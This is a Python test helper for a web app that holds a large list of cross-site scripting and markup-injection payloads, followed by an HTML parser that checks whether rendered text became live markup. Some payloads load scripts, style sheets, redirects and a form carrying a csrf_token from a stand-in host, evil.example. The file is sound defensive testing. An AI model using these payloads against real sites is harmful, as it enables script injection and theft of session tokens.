"""Text that tries to become markup, and a reader that tells whether it did."""

from __future__ import annotations

from html.parser import HTMLParser

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "hx-on:click",
)
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe", "math", "marquee", "x")
_FIXED = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" hx-get="/people" hx-trigger="load" x="',
    '" hx-on:click="alert(1)" x="',
    '<div hx-get="/people" hx-trigger="load">x</div>',
    "<div hx-vals='js:{a: alert(1)}' hx-post=/sign-out hx-trigger=load></div>",
    '<div data-hx-get="/people" data-hx-trigger="load"></div>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    '<https://evil.example/" onclick=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p class=card id=main>x</p>",
    "{{ 7 * 7 }}{% raw %}{{ layout.csrf_token }}",
    "${7*7}<%= 7*7 %>",
    "\u202ereversed\u202c <b>bold</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)

PAYLOADS = (
    *_FIXED,
    *(f"<{tag} {event}=alert(1)>" for tag in _TAGS for event in _EVENTS),
    *(f'"><{tag} {event}="alert(1)" ' for tag in _TAGS for event in _EVENTS),
    *(f"**x** <{tag} {event}='alert(1)'>y</{tag.split()[0]}>" for tag in _TAGS for event in _EVENTS),
)

_NEVER = {"iframe", "object", "embed", "base", "style", "svg", "math", "video", "audio", "marquee", "template", "x"}
_LINKS = ("/", "#", "http://testserver/", "https://", "http://", "mailto:")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.found.append("a script that is not ours")
        if tag == "link" and not values.get("href", "").startswith("/static/"):
            self.found.append("a style sheet that is not ours")
        if tag == "meta" and "http-equiv" in values:
            self.found.append("a refresh")
        if tag == "img" and not values.get("src", "").startswith("/static/"):
            self.found.append("an image that is not ours")
        for name, value in values.items():
            if name.startswith("on") or "hx-on" in name or name == "style" or name == "srcdoc":
                self.found.append(f"the attribute {name}")
            if name in ("hx-vals", "data-hx-get") or (name == "hx-get" and value == "/people"):
                self.found.append(f"the attribute {name}={value}")
            if name in ("href", "src", "action", "formaction") and not value.startswith(_LINKS):
                self.found.append(f"{name}={value}")


def became_markup(html: str) -> list[str]:
    """Return what in a page could only be there because text became markup; empty is good."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
